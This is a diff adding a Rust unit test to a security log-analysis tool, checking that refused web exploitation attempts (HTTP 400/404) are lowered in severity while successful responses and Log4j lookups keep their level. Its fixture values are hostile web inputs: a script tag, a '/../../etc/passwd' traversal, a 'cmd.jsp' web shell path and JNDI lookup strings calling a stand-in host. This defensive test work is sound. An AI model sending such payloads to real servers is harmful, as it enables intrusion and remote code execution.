@@ -237,3 +237,82 @@ fn groups_and_machine_accounts_do_not_taint_logons() {
     ];
     assert_eq!(escalate_lateral_movement(&mut fs, Level::Medium), 0);
 }
+
+/// A scanner's path traversal answered 404 and XSS answered 400 made an
+/// "Initial access" incident and a drive-by compromise (probe 18 on
+/// EVTX-ATTACK-SAMPLES' Tomcat log). Refused exploitation attempts are
+/// low, with the reason; a 200, a 500, a Log4j lookup (it runs when
+/// logged, whatever the answer) and a scanner's user agent (no
+/// exploitation technique) keep their level.
+#[test]
+fn refused_web_exploitation_attempts_are_lowered_with_the_reason() {
+    use kahu_reconstruct::{ATTEMPT_FIELD, lower_refused_web_attempts};
+    let web = |level: Level, tech: &str, status: &str, extra: &[(&str, &str)]| {
+        let mut fields = vec![("c-ip", "192.168.105.83"), ("sc-status", status)];
+        fields.extend_from_slice(extra);
+        finding("web", level, "tomcat", 0, &[tech], &fields)
+    };
+    let mut fs = vec![
+        web(
+            Level::High,
+            "T1189",
+            "400",
+            &[("cs-uri-query", "q=<script>")],
+        ),
+        web(
+            Level::Medium,
+            "T1190",
+            "404",
+            &[("cs-uri-stem", "/../../etc/passwd")],
+        ),
+        web(
+            Level::High,
+            "T1505.003",
+            "200",
+            &[("cs-uri-stem", "/error/cmd.jsp")],
+        ),
+        web(Level::High, "T1190", "500", &[]),
+        web(
+            Level::High,
+            "T1190",
+            "404",
+            &[("cs-user-agent", "${jndi:ldap://x/a}")],
+        ),
+        web(
+            Level::High,
+            "T1190",
+            "404",
+            &[("cs-uri-query", "x=%24%7Bjndi:dns://x/a%7D")],
+        ),
+        web(
+            Level::Medium,
+            "T1595.002",
+            "404",
+            &[("cs-user-agent", "zgrab/0.x")],
+        ),
+    ];
+    assert_eq!(lower_refused_web_attempts(&mut fs), 2);
+    let levels: Vec<Level> = fs.iter().map(|f| f.level).collect();
+    assert_eq!(
+        levels,
+        [
+            Level::Low,
+            Level::Low,
+            Level::High,
+            Level::High,
+            Level::High,
+            Level::High,
+            Level::Medium
+        ]
+    );
+    let why = fs[1]
+        .fields
+        .iter()
+        .find(|(k, _)| &**k == ATTEMPT_FIELD)
+        .map(|(_, v)| v.as_str())
+        .unwrap();
+    assert!(
+        why.contains("HTTP 404") && why.contains("lowered from medium"),
+        "{why}"
+    );
+}
